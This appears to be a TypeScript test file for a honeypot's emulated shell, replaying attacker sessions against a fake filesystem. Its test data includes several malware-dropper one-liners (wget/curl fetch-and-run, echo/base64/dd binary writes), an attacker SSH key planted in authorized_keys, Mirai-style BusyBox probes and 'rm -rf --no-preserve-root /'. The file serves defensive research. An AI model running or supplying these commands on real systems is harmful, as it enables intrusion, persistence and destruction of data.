import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { describe, it } from 'node:test'
import { programs } from '../../../src/machine/programs/index.ts'
import { runScript, type ShellRan } from '../shell/run.ts'

const elf = {
  content: `\x7fELF\x02\x01\x01${'\0'.repeat(9)}\x03\x00\x3e\x00${'\0'.repeat(500)}`,
  mode: 0o755,
}
const files = {
  '/bin/busybox': elf,
  '/bin/echo': elf,
  '/var/run': { directory: true },
  '/bin/[': elf,
} as const

const run = (script: string, dialect: 'bash' | 'ash' = 'bash') =>
  runScript(script, { programs, files, dialect })

function held(ran: ShellRan, path: string): string {
  return Buffer.from(ran.shell.files.read(path)).toString('latin1')
}

/** Any bytes, all of them. */
const binary = Buffer.concat([
  Buffer.from('\x7fELF\x01\x01\x01\0', 'latin1'),
  createHash('sha512').update('binary').digest(),
  Buffer.from(Array.from({ length: 256 }, (_, i) => i)),
])
const inHex = (bytes: Uint8Array) => [...bytes].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('')
const inOctal = (bytes: Uint8Array) => [...bytes].map((b) => `\\0${b.toString(8).padStart(3, '0')}`).join('')

describe('what droppers send arrives byte for byte', () => {
  const parts = [binary.subarray(0, 100), binary.subarray(100, 200), binary.subarray(200)]
  const ways: Readonly<Record<string, string>> = {
    'echo -ne in parts': parts
      .map((part, i) => `echo -ne '${inHex(part)}' >${i === 0 ? '' : '>'} /tmp/f`)
      .join(';'),
    'busybox echo -ne in parts': parts
      .map((part, i) => `/bin/busybox echo -ne '${inHex(part)}' >${i === 0 ? '' : '>'} /tmp/f`)
      .join(' && '),
    'the program echo, octal': parts
      .map((part) => `/bin/echo -ne "${inOctal(part).replaceAll('\\', '\\\\')}" >> /tmp/f`)
      .join('\n'),
    printf: parts.map((part) => `printf '${inHex(part)}' >> /tmp/f`).join(';'),
    'base64 -d': `echo ${binary.toString('base64')} | base64 -d > /tmp/f`,
    'base64 -d of a document': `base64 -d > /tmp/f <<EOF\n${binary.toString('base64').replaceAll(/(.{76})/g, '$1\n')}\nEOF`,
    'dd of=': `echo -ne '${inHex(binary)}' | dd of=/tmp/f 2>/dev/null`,
    'dd in blocks of one': `echo -ne '${inHex(binary)}' | dd bs=1 of=/tmp/f 2>/dev/null`,
    tee: `echo -ne '${inHex(binary)}' | tee /tmp/f >/dev/null`,
    'cat over a copy of ls': `echo -ne '${inHex(binary)}' > /tmp/i; cp /bin/ls /tmp/f; cat /tmp/i > /tmp/f; chmod 777 /tmp/f`,
    'xxd -r -p': `echo ${binary.toString('hex')} | xxd -r -p > /tmp/f`,
    'gzip and back': `echo -ne '${inHex(binary)}' | gzip -c | gzip -d > /tmp/f`,
    'tar and back': `cd /tmp; mkdir d; echo -ne '${inHex(binary)}' > d/f; tar czf a.tgz d; rm -rf d; tar xzf a.tgz; mv d/f f`,
    'dd in pieces, each to its place': parts
      .map((part, i) => `echo -ne '${inHex(part)}' | dd of=/tmp/f bs=100 seek=${i} conv=notrunc 2>/dev/null`)
      .join(';'),
  }
  for (const [way, script] of Object.entries(ways))
    for (const dialect of ['bash', 'ash'] as const)
      it(`${way} (${dialect})`, async () => {
        const ran = await run(script, dialect)
        assert.deepEqual(Buffer.from(held(ran, '/tmp/f'), 'latin1'), binary, ran.output)
      })
})

describe('sessions as they were recorded', () => {
  it('a loader finds that nothing can be fetched, and cleans up', async () => {
    const ran = await run(
      'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; rm -rf i; wget -T 1 -t 1 http://127.0.0.1:60232/i; curl -s -O http://127.0.0.1:60232/i; /bin/busybox wget http://127.0.0.1:60232/i; chmod 777 i || (cp /bin/ls ii;cat i>ii;rm i;cp ii i;rm ii); ./i',
    )
    assert.deepEqual(
      ran.happenings
        .filter((h) => h.type === 'download')
        .map((h) => (h.type === 'download' ? `${h.tool} ${h.url} ${h.path}` : '')),
      [
        'wget http://127.0.0.1:60232/i /tmp/i',
        'curl http://127.0.0.1:60232/i /tmp/i',
        'busybox wget http://127.0.0.1:60232/i /tmp/i',
      ],
    )
    assert.match(ran.output, /Connecting to 127\.0\.0\.1:60232\.\.\. failed: Connection refused\.\n/)
    assert.match(ran.output, /chmod: cannot access 'i': No such file or directory\n/)
    assert.match(
      ran.output,
      /cat: i: No such file or directory\nrm: cannot remove 'i': No such file or directory\n/,
    )
  })

  it('a key is left in authorized_keys', async () => {
    const ran = await run(
      'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAA mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~',
    )
    assert.equal(held(ran, '/root/.ssh/authorized_keys'), 'ssh-rsa AAAA mdrfckr\n')
    assert.equal(ran.shell.files.stat('/root/.ssh').mode, 0o700)
    assert.equal(ran.status, 0)
  })

  it("probes of Mirai and its kin get BusyBox's answers", async () => {
    const ran = await run(
      '/bin/busybox ECCHI; /bin/busybox cat /bin/echo | /bin/busybox dd bs=22 count=1 2>/dev/null | /bin/busybox hexdump -n 4 -e x -C; cat /proc/mounts 2>/dev/null; /bin/busybox wget; /bin/busybox 81c46036wget; echo -e "\\x63\\x6f\\x6e\\x6e\\x65\\x63\\x74\\x65\\x64"',
      'ash',
    )
    assert.match(ran.output, /^ECCHI: applet not found\n/)
    assert.match(ran.output, /\|\.ELF\|/)
    assert.match(ran.output, /Usage: wget /)
    assert.match(ran.output, /81c46036wget: applet not found\nconnected\n$/)
  })

  it('the usual looking around fits together', async () => {
    const ran = await run(
      "cat /etc/passwd | grep root | awk -F: '{print $1}'; ls -la /tmp | head -n 1; cat /etc/passwd | wc -l; find /etc -name passwd 2>/dev/null | xargs ls -l | cut -c1-10; echo -n abc | md5sum | awk '{print $1}'; which wget curl; seq 3 | sort -rn | tr '\\n' ' '; yes | head -n 2; echo 'a b' | sed 's/b/c/'",
    )
    assert.equal(
      ran.output,
      'root\ntotal 8\n2\n-rw-r--r--\n900150983cd24fb0d6963f7d28e17f72\n/bin/wget\n/bin/curl\n3 2 1 y\ny\na c\n',
    )
  })

  it('all that is there goes with rm -rf --no-preserve-root /, and the programs with it', async () => {
    const ran = await run('rm -rf /; echo $?; rm -rf --no-preserve-root / 2>/dev/null; ls')
    assert.match(
      ran.output,
      /^rm: it is dangerous to operate recursively on '\/'\nrm: use --no-preserve-root to override this failsafe\n1\n/,
    )
    assert.match(ran.output, /ls: (command not found|No such file or directory)\n$/)
  })
})
